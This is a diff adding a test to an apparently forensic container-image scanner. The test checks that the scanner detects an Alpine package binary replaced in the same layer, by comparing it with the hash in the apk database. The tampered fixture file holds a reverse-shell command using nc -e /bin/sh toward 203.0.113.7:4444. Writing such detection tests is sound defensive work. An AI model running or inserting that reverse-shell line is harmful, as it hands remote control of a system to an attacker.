@@ -347,3 +347,27 @@ def test_history_dated_after_the_archive_was_written(tmp_path):
     r = analyze(str(build(tmp_path, layers, history)))
     [f] = [x for x in codes(r, "history.time-anomaly") if x.severity.value == "medium"]
     assert f.history == 1 and "after the archive was written" in f.detail
+
+
+def test_apk_v3_record_checked_against_every_file_without_a_second_pass(tmp_path):
+    import base64
+
+    good, evil = b"#!/bin/sh\necho tool\n", b"#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n"
+
+    def z(data: bytes) -> str:  # apk v3 (f:S): Q1 + base64 of the first 160 bits of sha256
+        return "Q1" + base64.b64encode(hashlib.sha256(data).digest()[:20]).decode()
+    installed = (f"P:tool\nV:1.0-r0\nA:x86_64\nf:S\nF:usr/bin\nR:tool\nZ:{z(good)}\nR:other\nZ:{z(b'ok')}\n\n"
+                 .encode())
+    # installed and altered in the same layer: no cross-layer evidence, only the record
+    layer = [M("lib/", type="dir"), M("lib/apk/", type="dir"), M("lib/apk/db/", type="dir"),
+             M("lib/apk/db/installed", installed), M("usr/", type="dir"), M("usr/bin/", type="dir"),
+             M("usr/bin/tool", evil, mode=0o755), M("usr/bin/other", b"ok", mode=0o755)]
+    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}]
+    p = build(tmp_path, [layer], history)
+    cp = subprocess.run([sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"],
+                        input=p.read_bytes(), capture_output=True)  # stdin: no second pass possible
+    doc = json.loads(cp.stdout)
+    [f] = [x for x in doc["findings"] if x["code"] == "history.package-file-modified"]
+    assert f["path"] == "/usr/bin/tool" and f["evidence"]["algo"] == "sha256-160"
+    assert f["evidence"]["actual"] == hashlib.sha256(evil).hexdigest()[:40]
+    assert "differs from what the package manager recorded" in f["detail"]
